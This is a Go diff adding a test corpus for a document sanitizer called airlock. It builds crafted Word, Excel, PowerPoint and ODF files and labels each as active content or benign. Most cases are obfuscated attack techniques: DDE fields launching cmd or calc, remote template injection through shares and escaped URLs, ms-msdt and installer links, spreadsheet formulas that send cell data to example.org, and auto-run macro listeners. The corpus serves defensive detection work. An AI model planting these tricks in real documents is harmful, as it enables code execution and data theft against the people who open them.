@@ -1,0 +1,227 @@
+package corpus
+
+import (
+	"encoding/base64"
+	"fmt"
+	"strings"
+
+	"airlock"
+)
+
+const wordSpace = `xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"`
+
+// code is a field of Word: pieces of its code, of which those that begin with "<" are markup.
+func code(pieces ...string) string {
+	var b strings.Builder
+	b.WriteString(mark("begin"))
+	for _, p := range pieces {
+		if strings.HasPrefix(p, "<") {
+			b.WriteString(p)
+		} else {
+			b.WriteString(`<w:r><w:instrText xml:space="preserve">` + p + `</w:instrText></w:r>`)
+		}
+	}
+	return b.String() + mark("separate") + `<w:r><w:t>x</w:t></w:r>` + mark("end")
+}
+
+func mark(kind string) string { return `<w:r><w:fldChar w:fldCharType="` + kind + `"/></w:r>` }
+
+func inText(inner string) parts {
+	return parts{"word/document.xml": wordText("<w:p>" + inner + "</w:p>")}
+}
+
+// relTag is the relationships of a text with one that is written by hand.
+func relTag(attrs string) parts {
+	return parts{"word/_rels/settings.xml.rels": xmlV1 + `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship ` + attrs + `/></Relationships>`}
+}
+
+func chunk(name, kind, data string) parts {
+	return parts{"word/" + name: data, "word/_rels/document.xml.rels": rels("aFChunk", "/word/"+name), "[Content_Types].xml": typesWith("word/document.xml", docxMain, `<Override PartName="/word/`+name+`" ContentType="`+kind+`"/>`)}
+}
+
+func rtf(inner string) parts { return chunk("a.rtf", "application/rtf", `{\rtf1\ansi `+inner+"}") }
+
+func formulaCell(f string) parts {
+	return parts{"xl/worksheets/sheet1.xml": `<worksheet xmlns="x"><sheetData><row><c><f>` + f + `</f></c></row></sheetData></worksheet>`}
+}
+
+func officeTricks() []Case {
+	var cases []Case
+	runs := func(name, mediaType string, change parts) {
+		cases = append(cases, officeCase(name, mediaType, airlock.ActiveContent, change))
+	}
+	fine := func(name, mediaType string, change parts) {
+		cases = append(cases, officeCase(name, mediaType, "", change))
+	}
+	fieldTricks(runs, fine)
+	relationshipTricks(runs, fine)
+	chunkTricks(runs, fine)
+	formulaTricks(runs, fine)
+	odfTricks(runs, fine)
+	return append(cases, boundTricks()...)
+}
+
+type addOffice func(name, mediaType string, change parts)
+
+func fieldTricks(runs, fine addOffice) {
+	quote := code("QUOTE 68 68 69 65 85 84 79")
+	runs("dde-by-a-quote", docxType, inText(code(" ", quote, ` cmd "/k calc"`)))
+	runs("dde-by-a-quote-in-hexadecimal", docxType, inText(code(code("QUOTE 0x44 0x44 0x45"), ` cmd "/k"`)))
+	runs("dde-by-a-quote-of-its-end", docxType, inText(code("DD", code(`QUOTE "EAUTO"`), ` cmd`)))
+	runs("dde-by-a-bookmark", docxType, inText(code(code(`SET a "DDEAUTO cmd"`), code("REF a"))))
+	runs("dde-by-a-simple-field", docxType, inText(code(`<w:fldSimple w:instr="QUOTE 68 68 69"><w:r><w:t>x</w:t></w:r></w:fldSimple>`, " cmd")))
+	runs("dde-over-paragraphs", docxType, inText(code("DD", "</w:p><w:p>", "EAUTO cmd")))
+	runs("dde-in-a-text-box", docxType, inText(`<w:r><w:pict><w:txbxContent><w:p>`+code("DDE cmd")+`</w:p></w:txbxContent></w:pict></w:r>`))
+	runs("dde-around-a-text-box", docxType, inText(code("DD", `<w:r><w:pict><w:txbxContent><w:p>`+mark("end")+`</w:p></w:txbxContent></w:pict></w:r>`, "E cmd")))
+	runs("dde-behind-a-foreign-end", docxType, inText(code("DD", `<w:r><z:fldChar xmlns:z="urn:z" z:fldCharType="end"/></w:r>`, "E cmd")))
+	runs("dde-behind-an-end-in-foreign-markup", docxType, inText(code("DD", `<z:z xmlns:z="urn:z">`+mark("end")+`</z:z>`, "E cmd")))
+	runs("dde-around-foreign-text", docxType, inText(code("DD", `<w:r><z:instrText xmlns:z="urn:z">x</z:instrText></w:r>`, "E cmd")))
+	runs("dde-by-a-mark-that-is-two", docxType, inText(strings.Replace(code("DDE cmd"), `w:fldCharType="begin"`, `xmlns:z="urn:z" z:fldCharType="end" w:fldCharType="begin"`, 1)))
+	runs("dde-in-an-alternative", docxType, inText(code("DD", `<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice Requires="z">`+mark("end")+`</mc:Choice></mc:AlternateContent>`, "E cmd")))
+	runs("dde-without-what-was-deleted", docxType, inText(code("DD", `<w:del><w:r><w:delInstrText>x</w:delInstrText></w:r></w:del>`, "E cmd")))
+	runs("dde-around-an-element-within-its-text", docxType, inText(mark("begin")+`<w:r><w:instrText>DD<z:f xmlns:z="urn:z">x</z:f>E cmd</w:instrText></w:r>`+mark("end")))
+	runs("dde-behind-many-blanks", docxType, inText(code(strings.Repeat(" ", 40000), "DDE cmd")))
+	runs("dde-by-a-reference-that-straddles", docxType, inText(code(strings.Repeat(" ", 1000)+strings.Repeat("&#32;&#x000020;", 4000)+"DD&#00000069; cmd")))
+	runs("dde-by-a-declared-name", docxType, inText(`<w:fldSimple xmlns:instr="PAGE" w:instr="DDE cmd"/>`))
+	runs("text-from-a-share-by-a-field", docxType, inText(code(`INCLUDETEXT "\\\\example.org\\share\\a.docx"`)))
+	runs("text-from-the-web-by-a-quote", docxType, inText(code(`INCLUDETEXT `, code(`QUOTE 104 116 116 112 58 47 47 101`), "xample.org/a")))
+	runs("object-from-the-web-by-a-field", docxType, inText(code(`LINK htmlfile "http://example.org/a.hta" \a`)))
+	runs("script-as-a-link-by-a-field", docxType, inText(code(`HYPERLINK "ms-msdt:/id x"`)))
+
+	fine("field-of-fields", docxType, inText(code("IF ", code("MERGEFIELD sex"), ` = "f" "Ms" "Mr"`)+code("= ", code("PAGE"), " - 1")))
+	fine("contents-of-links", docxType, inText(mark("begin")+`<w:r><w:instrText>TOC \o "1-3"</w:instrText></w:r>`+mark("separate")+code(`HYPERLINK \l "_Toc1"`)+code("PAGEREF _Toc1")+mark("end")))
+	fine("field-in-a-text-box-and-its-alternative", docxType, inText(`<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice Requires="wps"><w:txbxContent>`+code("PAGE")+`</w:txbxContent></mc:Choice><mc:Fallback><w:txbxContent>`+code("PAGE")+`</w:txbxContent></mc:Fallback></mc:AlternateContent>`))
+	fine("references-of-endnote", docxType, inText(code(" ADDIN EN.CITE ", code(" ADDIN EN.CITE.DATA "))))
+	runs("dde-by-letters-of-numbers", docxType, inText(code(code(`= 30 \* ALPHABETIC`), code(`= 5 \* ALPHABETIC`), ` cmd`)))
+	runs("dde-by-the-picture-of-a-number", docxType, inText(code(code(`= 1 \# "'DDE'"`), ` cmd`)))
+	runs("dde-behind-fields-that-have-no-end", docxType, inText(strings.Repeat(mark("begin")+"<w:r><w:instrText>IF </w:instrText></w:r>", 80)+code("DDE cmd")))
+	fine("fields-that-have-no-end", docxType, inText(strings.Repeat(mark("begin")+"<w:r><w:instrText>IF </w:instrText></w:r>", 80)))
+	fine("field-that-has-no-end", docxType, inText(mark("begin")+`<w:r><w:instrText> PAGE </w:instrText></w:r>`))
+	fine("text-of-a-neighbour", docxType, inText(code(` INCLUDETEXT "C:\\Templates\\Terms.docx" `)))
+}
+
+func relationshipTricks(runs, fine addOffice) {
+	const web = ` Target="https://example.org/a.dotm" TargetMode="External"`
+	kind := ` Type="` + relsOf + `attachedTemplate"`
+	runs("template-behind-a-declared-type", docxType, relTag(`xmlns:Type="urn:x" Id="a"`+kind+web))
+	runs("template-behind-a-declared-target", docxType, relTag(`xmlns:Target="a.dotm" Id="a"`+kind+web))
+	runs("template-beside-another-type", docxType, relTag(`xmlns:z="urn:z" z:Type="`+relsOf+`image" Id="a"`+kind+web))
+	runs("template-beside-another-target", docxType, relTag(`xmlns:z="urn:z" z:Target="a.dotm" Id="a"`+kind+web))
+	runs("template-whose-type-has-blanks", docxType, relTag(`Id="a" Type=" `+relsOf+`attachedTemplate "`+web))
+	runs("template-whose-type-has-a-slash", docxType, relTag(`Id="a" Type="`+relsOf+`attachedTemplate/"`+web))
+	runs("template-whose-type-has-a-query", docxType, relTag(`Id="a" Type="`+relsOf+`attachedTemplate?a/b"`+web))
+	runs("template-of-the-strict-kind", docxType, relTag(`Id="a" Type="http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate"`+web))
+	runs("template-behind-many-blanks", docxType, relTag(`Id="a"`+kind+` Target="`+strings.Repeat("&#32;", 5000)+`https://example.org/a" TargetMode="External"`))
+	runs("template-from-a-share-by-four-slashes", docxType, relTag(`Id="a"`+kind+` Target="file:////example.org/share/a.dotm" TargetMode="External"`))
+	runs("template-from-a-share-by-escapes", docxType, relTag(`Id="a"`+kind+` Target="file:%2f%2fexample.org/share/a.dotm" TargetMode="External"`))
+	runs("template-from-a-share-that-says-it-is-inside", docxType, relTag(`Id="a"`+kind+` Target="\\example.org\share\a.dotm"`))
+	runs("template-from-a-share-by-one-slash", docxType, relTag(`Id="a"`+kind+` Target="file:/\\example.org\share\a.dotm" TargetMode="External"`))
+	runs("script-behind-a-harmless-one", docxType, relTag(`Id="a" Type="`+relsOf+`hyperlink" Target="javascript:void(0);alert(1)" TargetMode="External"`))
+	runs("installer-as-a-link", docxType, relTag(`Id="a" Type="`+relsOf+`hyperlink" Target="ms-appinstaller:?source=https://example.org/a" TargetMode="External"`))
+	fine("link-of-sharepoint", docxType, relTag(`Id="a" Type="`+relsOf+`hyperlink" Target="ms-word:ofe|u|https://example.org/a.docx" TargetMode="External"`))
+	runs("template-in-folders-in-capitals", docxType, parts{"word/_RELS/settings.xml.RELS": relTag(`Id="a"` + kind + web)["word/_rels/settings.xml.rels"]})
+	runs("macros-behind-a-declared-type", docxType, parts{"[Content_Types].xml": strings.Replace(typesWith("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml", ""), `<Override `, `<Override xmlns:ContentType="`+docxMain+`" `, 1)})
+	runs("macros-by-a-second-type", docxType, parts{"[Content_Types].xml": typesWith("word/document.xml", docxMain, `<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>`)})
+	runs("macros-by-a-prefixed-type", docxType, parts{"[Content_Types].xml": typesWith("word/document.xml", docxMain, `<p:Override xmlns:p="http://schemas.openxmlformats.org/package/2006/content-types" PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>`), "word/x.bin": "x"})
+	runs("macros-by-an-escaped-name", docxType, parts{"[Content_Types].xml": typesWith("word/document.xml", docxMain, `<Override PartName="/word/%78.dat" ContentType="application/vnd.ms-office.vbaProject"/>`), "word/x.dat": "x"})
+	runs("text-of-word-called-a-page", docxType, parts{"word/header1.html": `<w:hdr ` + wordSpace + `><w:p>` + code("DDE cmd") + `</w:p></w:hdr>`})
+	runs("text-of-word-called-a-drawing", docxType, parts{"word/a.vml": `<w:hdr ` + wordSpace + `><w:p>` + code("DDE cmd") + `</w:p></w:hdr>`})
+	runs("chart-whose-object-is-on-a-share", pptxType, parts{"ppt/charts/chart1.xml": "<c/>", "ppt/charts/_rels/chart1.xml.rels": rels("oleObject", `file:///\\example.org\a.xlsx!`)})
+
+	fine("template-on-a-mac", docxType, relTag(`Id="a"`+kind+` Target="file:////Users/ann/Library/Letter.dotx" TargetMode="External"`))
+	fine("template-on-an-old-mac", docxType, relTag(`Id="a"`+kind+` Target="Macintosh%20HD:Users:ann:Letter.dotx" TargetMode="External"`))
+	fine("chart-whose-workbook-is-on-the-web", pptxType, parts{"ppt/charts/chart1.xml": "<c/>", "ppt/charts/_rels/chart1.xml.rels": rels("oleObject", "https://example.org/Book1.xlsx!")})
+	fine("types-with-a-prefix", docxType, parts{"[Content_Types].xml": `<p:Types xmlns:p="http://schemas.openxmlformats.org/package/2006/content-types"><p:Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><p:Default Extension="xml" ContentType="application/xml"/><p:Override PartName="/word/document.xml" ContentType="` + docxMain + `"/></p:Types>`})
+	fine("type-said-twice", docxType, parts{"[Content_Types].xml": typesWith("word/document.xml", docxMain, `<Override PartName="/word/document.xml" ContentType="`+docxMain+`"/>`)})
+	fine("link-of-many-bytes", docxType, parts{"word/_rels/document.xml.rels": rels("hyperlink", "https://example.org/?q="+strings.Repeat("a", 9000)+"!")})
+}
+
+func chunkTricks(runs, fine addOffice) {
+	runs("rtf-with-a-template", docxType, rtf(`{\*\template http://example.org/a.dotm}`))
+	runs("rtf-with-an-escaped-template", docxType, rtf(`{\*\template {\b \'68t\u116?p}://example.org/a.dotm}`))
+	runs("rtf-with-a-template-on-a-share", docxType, rtf(`{\template \\\\example.org\\a.dotm}`))
+	runs("rtf-with-dde", docxType, rtf(`{\field{\*\fldinst DDEAUTO cmd "/k"}{\fldrslt x}}`))
+	runs("rtf-with-dde-split", docxType, rtf(`{\field{\*\fldinst {\b D}{\*\unknown x}{\i \'44}\u69?AUTO cmd}{\fldrslt x}}`))
+	runs("rtf-with-dde-behind-bytes", docxType, rtf("{\\pict\\bin3 }}}}{\\field{\\*\\fldinst{DDE cmd}}}"))
+	runs("rtf-with-dde-by-a-quote", docxType, rtf(`{\field{\*\fldinst {\field{\*\fldinst QUOTE 68 68 69}{\fldrslt x}} cmd}{\fldrslt x}}`))
+	runs("rtf-with-a-text-from-the-web", docxType, rtf(`{\field{\*\fldinst INCLUDETEXT "http://example.org/a.docx"}}`))
+	runs("rtf-with-a-picture-from-a-share", docxType, rtf(`{\field{\*\fldinst INCLUDEPICTURE "\\\\\\\\example.org\\\\a.png" \\d}}`))
+	runs("rtf-with-an-object", docxType, rtf(`{\object\objemb{\*\objclass Package}{\*\objdata 0105}}`))
+	runs("rtf-called-a-picture", docxType, parts{"word/media/image1.png": `{\rtf1{\object\objautlink}}`})
+	page := "<html><script>alert(1)</script></html>"
+	runs("mail-with-a-script-in-base64", docxType, chunk("a.mht", "message/rfc822", "MIME-Version: 1.0\nContent-Type: text/html\nContent-Transfer-Encoding: base64\n\n"+wrap(inBase64(page), 20)))
+	runs("mail-with-a-script-in-pieces", docxType, chunk("a.mht", "message/rfc822", "MIME-Version: 1.0\nContent-Type: text/html\nContent-Transfer-Encoding: quoted-printable\n\n<html>\n--x\n<scr=\nipt>=3D</script>"))
+	runs("page-with-a-field", docxType, chunk("a.html", "text/html", `<html><!--[if supportFields]><span style='mso-element:field-begin'></span><span style='mso-spacerun:yes'> </span>DDE cmd<![endif]--></html>`))
+	runs("page-with-a-field-as-a-style", docxType, chunk("a.html", "text/html", `<html><span style='mso-field-code:"DDE cmd"'>x</span></html>`))
+	fine("page-with-a-field-of-a-link", docxType, chunk("a.html", "text/html", `<html><span style='mso-element:field-begin'></span> HYPERLINK "https://example.org"</html>`))
+	fine("rtf-of-a-letter", docxType, rtf(`{\fonttbl{\f0 Arial;}}{\*\template C:\\Users\\a\\Normal.dotm}{\field{\*\fldinst HYPERLINK "https://example.org"}{\fldrslt here}} DDEAUTO is a field.`))
+	fine("mail-with-a-picture", docxType, chunk("a.mht", "message/rfc822", "MIME-Version: 1.0\nContent-Type: multipart/related; boundary=x\n\n--x\nContent-Type: text/html\nContent-Transfer-Encoding: quoted-printable\n\n<html><a href=3D\"https://example.org\">x</a>\n--x\nContent-Type: image/png\nContent-Transfer-Encoding: base64\n\n"+wrap(inBase64(strings.Repeat("\x89PNG", 90)), 76)+"\n--x--\n"))
+}
+
+func inBase64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
+
+func wrap(s string, n int) string {
+	var b strings.Builder
+	for ; len(s) > n; s = s[n:] {
+		b.WriteString(s[:n] + "\n")
+	}
+	return b.String() + s
+}
+
+func formulaTricks(runs, fine addOffice) {
+	runs("formula-that-sends-cells", xlsxType, formulaCell(`_xlfn.WEBSERVICE("https://example.org/?"&amp;A1)`))
+	runs("formula-that-starts-a-server", xlsxType, formulaCell(`IF(1,RTD("a.b","","c"))`))
+	runs("dde-formula-within-another", xlsxType, formulaCell(`IF(A1="x",(cmd|'/c calc'!A0),"")`))
+	runs("dde-formula-as-a-name", xlsxType, parts{"xl/workbook.xml": strings.Replace(xlsxParts["xl/workbook.xml"], "Sheet1!$A$1", "cmd|'/c calc'!A0", 1)})
+	runs("dde-formula-as-a-rule", xlsxType, parts{"xl/worksheets/sheet1.xml": `<worksheet><conditionalFormatting><cfRule><formula>cmd|'/c'!A0</formula></cfRule></conditionalFormatting></worksheet>`})
+	runs("picture-that-sends-cells", xlsxType, formulaCell(`_xlfn.IMAGE("https://example.org/?"&amp;A1)`))
+	runs("dde-formula-around-an-element", xlsxType, formulaCell(`<z:instrText xmlns:z="urn:z"/>cmd|'/c calc'!A0`))
+	runs("dde-formula-behind-a-column", xlsxType, formulaCell(`SUM(T['#a])+cmd|'/c calc'!A0`))
+	fine("pictures-of-one-name-but-for-case", xlsxType, parts{"xl/media/a.png": "x", "xl/media/a.PNG": "x"})
+	fine("formulas-of-text", xlsxType, formulaCell(`"call (me) "&amp;'my "call(2)" sheet'!A1&amp;HYPERLINK("https://example.org/?q="&amp;A2,"RTD(1)")`))
+	fine("formula-of-google", xlsxType, formulaCell(`IFERROR(__xludf.DUMMYFUNCTION("IMPORTRANGE(""https://example.org"",""A1"")"),"1")`))
+}
+
+func odfTricks(runs, fine addOffice) {
+	const href = `vnd.sun.star.script:a.py$f?language=Python&amp;location=share`
+	runs("macro-on-load-behind-a-declaration", odtType, body(odtType, `<script:event-listener xmlns:href="#x" xmlns:language="q" script:event-name="dom:load" xlink:href="`+href+`"/>`))
+	runs("macro-on-load-in-another-namespace", odtType, body(odtType, `<script:event-listener xmlns:z="urn:z" z:href="#a" xlink:href="`+href+`"/>`))
+	runs("object-from-the-web-behind-a-declaration", odtType, body(odtType, `<draw:object xmlns:href="./Object 1" xlink:href="http://example.org/a.ods"/>`))
+	runs("section-from-the-web", odtType, body(odtType, `<text:section text:name="a"><text:section-source xlink:href="https://example.org/a.odt"/></text:section>`))
+	runs("dde-beside-own", odsType, body(odsType, `<office:dde-source xmlns:z="urn:z" z:dde-application="soffice" office:dde-application="cmd"/>`))
+	runs("dde-formula-beside-own", odsType, body(odsType, `<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c&quot;;&quot;1&quot;)&amp;&quot;soffice&quot;"/>`))
+	runs("formula-that-sends-cells", odsType, body(odsType, `<table:table-cell table:formula="of:=WEBSERVICE(&quot;http://example.org/&quot;&amp;[.A1])"/>`))
+	runs("key-that-starts-a-macro", odtType, parts{"Configurations2/accelerator/current.xml": `<accel:acceleratorlist xmlns:accel="a" xmlns:xlink="http://www.w3.org/1999/xlink"><accel:item xlink:href="` + href + `"/></accel:acceleratorlist>`})
+	fine("dde-formula-to-itself", odsType, body(odsType, `<table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;a.ods&quot;;&quot;A1&quot;)"/>`))
+	fine("section-from-a-neighbour", odtType, body(odtType, `<text:section text:name="a"><text:section-source xlink:href="../terms.odt"/></text:section>`))
+}
+
+// boundTricks are refused for what they would cost, or for what programs would not agree on.
+func boundTricks() []Case {
+	long := strings.Repeat("a", 5000)
+	manifest := odfParts(odtType, "")["META-INF/manifest.xml"]
+	return []Case{
+		officeCase("name-of-5000-bytes-in-types", docxType, airlock.Malformed, parts{"[Content_Types].xml": typesWith("word/document.xml", docxMain, `<Override PartName="/`+long+`" ContentType="x"/>`)}),
+		officeCase("type-of-5000-bytes", docxType, airlock.Malformed, parts{"[Content_Types].xml": typesWith("word/document.xml", docxMain, `<Override PartName="/a" ContentType="`+long+`"/>`)}),
+		officeCase("document-named-by-5000-bytes", docxType, airlock.Malformed, parts{"_rels/.rels": rels("officeDocument", "word/document.xml", "officeDocument", long)}),
+		officeCase("document-that-is-rtf", docxType, airlock.Malformed, parts{"word/document.xml": `{\rtf1 hello}`}),
+		officeCase("document-that-is-an-archive", docxType, airlock.Malformed, parts{"word/document.xml": string(goZip("a", "b"))}),
+		officeCase("document-that-is-of-a-mac", docxType, airlock.Malformed, parts{"word/document.xml": "\x00\x05\x16\x07\x00\x02\x00\x00Mac OS X        "}),
+		officeCase("content-that-is-an-archive", odtType, airlock.Malformed, parts{"content.xml": string(goZip("a", "b"))}),
+		officeCase("in-utf-7-behind-a-tab", docxType, airlock.Uninspectable, parts{"word/document.xml": "<?xml\tversion=\"1.0\" encoding=\"UTF-7\"?>" + wordText("")[len(xmlV1):]}),
+		officeCase("part-twice-but-for-case", docxType, airlock.UnsafeArchive, parts{"word/DOCUMENT.xml": wordText("")}),
+		officeCase("main-of-a-foreign-namespace", docxType, airlock.Malformed, parts{"_rels/.rels": strings.ReplaceAll(rels("officeDocument", "word/document.xml"), "<Relationship ", `<z:Relationship xmlns:z="urn:z" `)}),
+		officeCase("of-another-kind-by-its-manifest", odtType, airlock.TypeMismatch, parts{"META-INF/manifest.xml": strings.Replace(manifest, odtType, odsType, 1)}),
+		with(officeCase("macro-beside-a-locked-part", odtType, airlock.ActiveContent, parts{
+			"META-INF/manifest.xml": strings.Replace(manifest, "</manifest:manifest>", `<manifest:file-entry manifest:full-path="a.bin"><manifest:encryption-data/></manifest:file-entry></manifest:manifest>`, 1),
+			"content.xml":           body(odtType, `<text:a xlink:href="macro:///a.b.c()">x</text:a>`)["content.xml"],
+		}), func(p *airlock.Profile) { p.Limits.Encrypted = "allow" }),
+		{Name: fmt.Sprintf("office-%d-namespaces.docx", 2000), Type: docxType, Want: airlock.Malformed, Make: func() []byte {
+			var b strings.Builder
+			for i := range 2000 {
+				fmt.Fprintf(&b, ` xmlns:a%d="urn:a"`, i)
+			}
+			return docxOf(parts{"word/document.xml": strings.Replace(wordText(""), "<w:body>", "<w:body"+b.String()+">", 1)})
+		}},
+	}
+}
